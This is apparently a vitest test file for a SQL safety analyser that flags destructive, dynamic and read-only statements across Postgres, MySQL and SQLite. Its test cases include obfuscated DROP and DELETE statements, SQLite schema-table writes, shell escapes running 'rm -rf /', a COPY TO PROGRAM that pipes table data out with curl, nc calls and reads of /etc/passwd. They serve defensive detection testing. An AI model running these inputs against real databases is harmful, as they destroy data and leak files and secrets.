// The SQL lexer and analysis: spellings that hide a destructive statement (comments between
// keywords, case, quoting, dollar quotes, nested comments, several statements with the destructive
// one last, dialect disagreements) are found; SQL whose only DROP is data is not; dynamic SQL, client
// shell escapes and file reads are dynamic; reads are read-only; past the bounds the answer is unknown.
import { describe, expect, it } from 'vitest';
import { analyseSql, type SqlOptions } from './sql.js';
import { MAX_SQL_LENGTH } from './sql-lexer.js';

const pg: SqlOptions = { dialect: 'postgres', meta: 'psql' };
const my: SqlOptions = { dialect: 'mysql', meta: 'mysql' };
const lite: SqlOptions = { dialect: 'sqlite', meta: 'sqlite' };

describe('destructive statements', () => {
  it.each<[string, SqlOptions, string]>([
    ['DROP TABLE t', pg, 'DROP'],
    ['drop table t', pg, 'DROP'],
    ['DrOp TaBlE t', pg, 'DROP'],
    ['DROP--x\nTABLE t', pg, 'DROP'],
    ['DROP/**/TABLE t', pg, 'DROP'],
    ['DROP/* a /* nested */ still comment */TABLE t', pg, 'DROP'],
    ['/* leading */ DROP TABLE t', pg, 'DROP'],
    ['SELECT 1; SELECT 2; DROP TABLE t', pg, 'DROP'],
    ["SELECT 'a;b'; DROP TABLE t;", pg, 'DROP'],
    ['SELECT $$ ; $$; DROP TABLE t', pg, 'DROP'],
    ['SELECT $x$ $$ $x$; DROP TABLE t', pg, 'DROP'],
    ['TRUNCATE sessions', pg, 'TRUNCATE'],
    ['truncate table sessions restart identity', pg, 'TRUNCATE'],
    ['DELETE FROM orders', pg, 'DELETE'],
    ['DELETE FROM orders WHERE 1=1', pg, 'DELETE'],
    ['DELETE FROM orders WHERE TRUE', pg, 'DELETE'],
    ["DELETE FROM orders WHERE 'a' = 'a'", pg, 'DELETE'],
    ['delete from orders -- where id = 4', pg, 'DELETE'],
    ['DELETE FROM orders /* WHERE id = 4 */', pg, 'DELETE'],
    ["DELETE FROM orders; SELECT 'WHERE id = 1'", pg, 'DELETE'],
    ['DELETE FROM orders USING (SELECT id FROM x WHERE y) s', pg, 'DELETE'],
    ['UPDATE users SET admin = true', pg, 'UPDATE'],
    ['UPDATE users SET admin = (SELECT true FROM x WHERE y = 1)', pg, 'UPDATE'],
    ['WITH gone AS (DELETE FROM t RETURNING *) SELECT count(*) FROM gone WHERE x = 1', pg, 'DELETE'],
    ['EXPLAIN ANALYZE DELETE FROM t', pg, 'DELETE'],
    ['ALTER TABLE t DROP COLUMN email', pg, 'ALTER DROP'],
    ['ALTER TABLE t RENAME TO t_old', pg, 'ALTER RENAME'],
    ['RENAME TABLE a TO b', my, 'RENAME'],
    ['CREATE OR REPLACE TABLE t AS SELECT 1', { dialect: 'postgres' }, 'REPLACE TABLE'],
    ['INSERT OVERWRITE TABLE t SELECT * FROM u', {}, 'INSERT OVERWRITE'],
    ['ALTER TABLE events DELETE WHERE 1', { dialect: 'clickhouse' }, 'DELETE'],
    // MySQL runs the contents of /*! … */.
    ['/*!50000 DROP TABLE t */', my, 'DROP'],
    ['SELECT 1 /*! ; DROP TABLE t */', my, 'DROP'],
    // Non-nesting dialects end the comment at the first */.
    ['/* /* */ DROP TABLE t; -- */', lite, 'DROP'],
    ['/* /* */ DROP TABLE t; -- */', {}, 'DROP'],
    // A backslash ends the string when standard_conforming_strings is on, escapes the quote when off.
    ["SELECT 'a\\'' DROP TABLE t --'", pg, 'DROP'],
    ["SELECT 'a\\'; DROP TABLE t; -- '", pg, 'DROP'],
    ["SELECT 'a\\'; DROP TABLE t; -- '", my, 'DROP'],
    // psql meta-commands end a statement; the DROP after one still counts.
    ['\\x\nDROP TABLE t', pg, 'DROP'],
    // Bodies of DO blocks and functions are statements.
    ['DO $$ BEGIN DROP TABLE t; END $$', pg, 'DROP'],
    ["CREATE FUNCTION f() RETURNS void AS 'DELETE FROM t' LANGUAGE sql", pg, 'DELETE'],
    // SQLite's schema tables hold the schema: a row written there drops or redefines a table.
    ["delete from sqlite_schema where type = 'table'", lite, 'SCHEMA WRITE'],
    ['DELETE FROM main."sqlite_master" WHERE name = \'t\'', lite, 'SCHEMA WRITE'],
    ["UPDATE [sqlite_master] SET sql = 'CREATE TABLE t(x)' WHERE name = 't'", lite, 'SCHEMA WRITE'],
    ["update or ignore temp.sqlite_temp_master set name = 'x' where 1", lite, 'SCHEMA WRITE'],
    ["INSERT INTO `sqlite_schema` VALUES ('table', 'x', 'x', 0, '')", lite, 'SCHEMA WRITE'],
    ["REPLACE INTO 'SQLITE_MASTER' SELECT * FROM t", lite, 'SCHEMA WRITE'],
    ['pragma writable_schema=on', lite, 'PRAGMA WRITABLE_SCHEMA'],
    ['PRAGMA main.writable_schema = 1', lite, 'PRAGMA WRITABLE_SCHEMA'],
    ["PRAGMA writable_schema('yes')", lite, 'PRAGMA WRITABLE_SCHEMA'],
    ['PRAGMA writable_schema = RESET', lite, 'PRAGMA WRITABLE_SCHEMA'],
    ['CREATE FUNCTION f() RETURNS void AS $f$ BEGIN TRUNCATE t; END $f$ LANGUAGE plpgsql', pg, 'TRUNCATE'],
    // A body is the text the server reads from the literal: escapes decoded, quotes undoubled.
    ["create function f() returns void language sql as E'\\x64elete from T'", pg, 'DELETE'],
    ["create function f() returns void language sql as E'\\144elete from T'", pg, 'DELETE'],
    ["create function f() returns void language sql as E'\\u0064elete from T'", pg, 'DELETE'],
    ["create function f() returns void language sql as E'\\U00000064elete from T'", pg, 'DELETE'],
    ["create function f() returns void language sql as e'\\delete from T'", pg, 'DELETE'],
    ["create function f() returns void language sql as U&'\\0064elete from T'", pg, 'DELETE'],
    ["create function f() returns void language sql as u&'\\+000064elete from T'", pg, 'DELETE'],
    ["create function f() returns void language sql as U&'!0064elete from T' UESCAPE '!'", pg, 'DELETE'],
    ["CREATE FUNCTION f() RETURNS void AS 'select 1 '''' ; delete from t; --''' LANGUAGE sql", pg, 'DELETE'],
    // standard_conforming_strings off: a plain string takes backslash escapes too.
    ["CREATE FUNCTION f() RETURNS void AS 'd\\145lete from t' LANGUAGE sql", pg, 'DELETE'],
    ['\\lo_unlink 1234', pg, 'LO_UNLINK'],
    ['\\o /etc/passwd', pg, 'WRITE FILE'],
    ['.output /home/u/.bashrc', lite, 'WRITE FILE'],
    ['.restore backup.db', lite, 'RESTORE'],
    ['.res backup.db', lite, 'RESTORE'],
  ])('%j (%j) → %s', (text, opts, kind) => {
    const a = analyseSql(text, opts);
    expect(a.destructive).toContain(kind);
    expect(a.read_only).toBe(false);
  });
});

describe('data, filters and clauses that destroy nothing', () => {
  it.each<[string, SqlOptions]>([
    ["select 'a\\b'", pg],
    ["select E'a\\nb', U&'d\\0061ta'", pg],
    ["CREATE FUNCTION f() RETURNS text AS E'select \\'x\\'' LANGUAGE sql", pg],
    ["SELECT 'DROP TABLE t'", pg],
    ["SELECT 'drop table accounts' AS note", pg],
    ['SELECT "DROP TABLE t" FROM x', pg],
    ["INSERT INTO notes(body) VALUES ('DELETE FROM orders; TRUNCATE t')", pg],
    ['SELECT $$DROP TABLE t$$', pg],
    ['SELECT $tag$ DROP TABLE t $tag$', pg],
    ["SELECT E'it\\'s; DROP TABLE t'", pg],
    ["SELECT 'it''s; DROP TABLE t'", pg],
    ["SELECT 'it\\'s; DROP TABLE t'", my],
    ['-- DROP TABLE t\nSELECT 1', pg],
    ['/* DROP TABLE t */ SELECT 1', pg],
    ['# DROP TABLE t\nSELECT 1', my],
    ['SELECT 1 -- ; DROP TABLE t', pg],
    ['DELETE FROM sessions WHERE expires < now()', pg],
    ['DELETE FROM t WHERE id = 4 RETURNING *', pg],
    ['DELETE FROM t WHERE "id" = 4', {}],
    ['UPDATE users SET admin = false WHERE id = 4', my],
    ['UPDATE t SET x = 1 WHERE id IN (SELECT id FROM u)', pg],
    ['CREATE TABLE t (id int REFERENCES u ON DELETE CASCADE ON UPDATE SET NULL)', pg],
    ['SELECT * FROM t FOR UPDATE', pg],
    ['SELECT * FROM t FOR NO KEY UPDATE', pg],
    ['INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET x = 2', pg],
    ['INSERT INTO t VALUES (1) ON DUPLICATE KEY UPDATE x = 2', my],
    ['GRANT SELECT, UPDATE, DELETE ON t TO app', pg],
    ['CREATE TRIGGER tr AFTER UPDATE OR DELETE ON t FOR EACH ROW BEGIN SELECT 1; END', lite],
    ['SELECT truncate(1.234, 1)', my],
    ['SELECT t.drop, t.delete FROM t', pg],
    ['EXPLAIN DELETE FROM t', pg],
    ['ALTER TABLE t ALTER COLUMN c DROP NOT NULL', pg],
    ['PRAGMA journal_mode = DELETE', lite],
    ['select * from sqlite_schema', lite],
    ["INSERT INTO log SELECT name FROM sqlite_master WHERE type = 'table'", lite],
    ['PRAGMA writable_schema', lite],
    ['PRAGMA writable_schema = OFF', lite],
    ["pragma writable_schema='0'", lite],
  ])('%j', (text, opts) => {
    const a = analyseSql(text, opts);
    expect(a.destructive).toEqual([]);
  });
});

describe('a WHERE that keeps every row filters nothing', () => {
  it.each<[string, SqlOptions]>([
    ['DELETE FROM t WHERE t.id = t.id', pg],
    ['DELETE FROM t WHERE "t"."id" = "t"."id"', pg],
    ['DELETE FROM t WHERE id >= id', pg],
    ['DELETE FROM t WHERE id <= id', my],
    ['DELETE FROM t WHERE id == id', lite],
    ['DELETE FROM t WHERE a.b IS NOT DISTINCT FROM a.b', pg],
    ['DELETE FROM t WHERE true::bool', pg],
    ["DELETE FROM t WHERE 'x'::text = 'x'", pg],
    ["DELETE FROM t WHERE name LIKE '%'", pg],
    ["DELETE FROM t WHERE name ILIKE '%%'", pg],
    ["UPDATE t SET a = 1 WHERE name SIMILAR TO '%'", pg],
    ["UPDATE t SET a = 1 WHERE name ~ ''", pg],
    ["DELETE FROM t WHERE name REGEXP '.*'", my],
    ['DELETE FROM t WHERE (id = id)', pg],
    ['DELETE FROM t WHERE ((1 = 1))', pg],
    ['DELETE FROM t WHERE id = id AND 1 = 1', pg],
    ['DELETE FROM t WHERE (id = 1 OR TRUE) AND 1 = 1', pg],
    ['DELETE FROM t WHERE coalesce(NULL, TRUE)', pg],
    ['DELETE FROM t WHERE now() > now() - 1', pg],
  ])('%j', (text, opts) => {
    expect(analyseSql(text, opts).destructive.length).toBeGreaterThan(0);
  });

  it.each<[string, SqlOptions]>([
    ['DELETE FROM t WHERE id = 5 AND 1 = 1', pg],
    ['DELETE FROM t WHERE id BETWEEN 1 AND 5', pg],
    ["DELETE FROM t WHERE name NOT LIKE '%'", pg],
    ["DELETE FROM t WHERE name LIKE 'a%'", pg],
    ["DELETE FROM t WHERE lower(name) = 'x'", pg],
    ['DELETE FROM t WHERE id = 5::int', pg],
    ['DELETE FROM t WHERE t.id = u.id', pg],
    ['DELETE FROM t WHERE (id = 1 OR id = 2)', pg],
    ["DELETE FROM t WHERE created < now() - interval '1 day'", pg],
  ])('%j filters', (text, opts) => {
    expect(analyseSql(text, opts).destructive).toEqual([]);
  });
});

describe('dynamic SQL', () => {
  it.each<[string, SqlOptions]>([
    ["DO $$ BEGIN EXECUTE 'DR' || 'OP TABLE t'; END $$", pg],
    ['DO $$ BEGIN PERFORM 1; END $$', pg],
    ["EXECUTE format('DROP TABLE %I', 't')", pg],
    ['PREPARE s AS DELETE FROM t WHERE id = $1', pg],
    ['PREPARE s FROM @q', my],
    ["EXEC('DR' + 'OP TABLE t')", {}],
    ["EXEC sp_executesql N'DROP TABLE t'", {}],
    ['CALL cleanup()', pg],
    ["COPY t TO PROGRAM 'curl -d @- https://x.example'", pg],
    ["COPY t FROM '/etc/passwd'", pg],
    ["SELECT pg_read_file('/etc/passwd')", pg],
    ["SELECT LOAD_FILE('/etc/passwd')", my],
    ["SELECT * FROM t INTO OUTFILE '/tmp/x'", my],
    ["SELECT load_extension('evil.so')", lite],
    ["CREATE FUNCTION f() RETURNS int AS $$ import os; os.system('rm -rf /') $$ LANGUAGE plpython3u", pg],
    ['\\! rm -rf /', pg],
    ['\\i q.sql', pg],
    ['\\ir q.sql', pg],
    ['SELECT 1 \\gexec', pg],
    ["\\copy t to program 'nc x 1'", pg],
    ['\\o |sh', pg],
    ['\\yyy', pg],
    [':cmd', pg],
    ["SELECT :'v'", pg],
    ['.system rm -rf /', lite],
    ['.shell rm -rf /', lite],
    ['.sys rm -rf /', lite],
    ['.read q.sql', lite],
    ['.output |sh', lite],
    ['.load ./evil', lite],
    ['.nosuchcommand', lite],
    ['\\! rm -rf /', my],
    ['system rm -rf /', my],
    ['source dump.sql', my],
    ['\\. dump.sql', my],
  ])('%j', (text, opts) => {
    const a = analyseSql(text, opts);
    expect(a.dynamic.length).toBeGreaterThan(0);
    expect(a.read_only).toBe(false);
  });

  it('reads a psql cast (::) and PL/pgSQL assignment as code, not as variables', () => {
    expect(analyseSql("SELECT '1'::int", pg).dynamic).toEqual([]);
  });
});

describe('reads', () => {
  it.each<[string, SqlOptions]>([
    ['SELECT 1', pg],
    ['select count(*) from accounts;', pg],
    ['SELECT 1; SELECT 2;', pg],
    ['SHOW search_path', pg],
    ['EXPLAIN SELECT * FROM t', pg],
    ['WITH x AS (SELECT 1) SELECT * FROM x', pg],
    ['BEGIN; SELECT 1; COMMIT;', pg],
    ['\\d accounts', pg],
    ['\\dt+', pg],
    ['\\x\n\\timing\nSELECT 1;', pg],
    ['.tables', lite],
    ['.schema users', lite],
    ['.tab', lite],
    ['PRAGMA table_info(users)', lite],
    ['PRAGMA user_version', lite],
    ['DESCRIBE users', my],
    ['SHOW TABLES', my],
    ["SELECT 'DROP TABLE t'", {}],
  ])('%j', (text, opts) => {
    const a = analyseSql(text, opts);
    expect(a).toMatchObject({ destructive: [], dynamic: [], unknown: false, read_only: true });
  });

  it.each<[string, SqlOptions]>([
    ['SELECT * INTO backup FROM t', pg],
    ['INSERT INTO t VALUES (1)', pg],
    ['WITH x AS (UPDATE t SET a = 1 WHERE id = 2 RETURNING *) SELECT * FROM x', pg],
    ['PRAGMA user_version = 3', lite],
    ['SET search_path = app', pg],
    ['', pg],
  ])('not a read: %j', (text, opts) => {
    expect(analyseSql(text, opts).read_only).toBe(false);
  });
});

describe('keywords and statements', () => {
  it('lists the leading keywords of each statement, comments removed', () => {
    const a = analyseSql('select 1; /* x */ drop -- y\n table t; \\dt', pg);
    expect(a.statements.map((s) => s.keywords)).toEqual([['SELECT'], ['DROP', 'TABLE', 'T'], ['\\dt']]);
  });

  it('splits on a MySQL DELIMITER as well as on ;', () => {
    const a = analyseSql('DELIMITER //\nCREATE PROCEDURE p() BEGIN SELECT 1; END //\nCALL p() //', my);
    expect(a.dynamic).toContain('CALL');
  });
});

describe('bounds', () => {
  it('past the length bound the SQL is unknown', () => {
    const a = analyseSql(`SELECT 1;${' '.repeat(MAX_SQL_LENGTH)}`, pg);
    expect(a.unknown).toBe(true);
    expect(a.read_only).toBe(false);
  });

  it('past the statement bound the SQL is unknown', () => {
    expect(analyseSql('SELECT 1;'.repeat(2000), pg).unknown).toBe(true);
  });

  it('bodies nested past the depth bound are unknown', () => {
    const nested = 'DO $a$ DO $b$ DO $c$ DO $d$ DO $e$ SELECT 1 $e$ $d$ $c$ $b$ $a$';
    expect(analyseSql(nested, pg).unknown).toBe(true);
  });

  it('an unterminated string ends what runs: earlier statements still count', () => {
    expect(analyseSql("DROP TABLE t; SELECT 'unterminated", pg).destructive).toContain('DROP');
  });

  it('analyses a short statement in a few microseconds', () => {
    const text = "SELECT id, name FROM users WHERE email = 'a@b.c' ORDER BY id LIMIT 10";
    for (let i = 0; i < 1000; i++) analyseSql(text, pg);
    // Best of several batches: a loaded machine slows some batches, not the code.
    let best = Number.POSITIVE_INFINITY;
    for (let batch = 0; batch < 5; batch++) {
      const t0 = performance.now();
      for (let i = 0; i < 2000; i++) analyseSql(text, pg);
      best = Math.min(best, ((performance.now() - t0) / 2000) * 1000);
    }
    expect(best).toBeLessThan(100);
  });
});
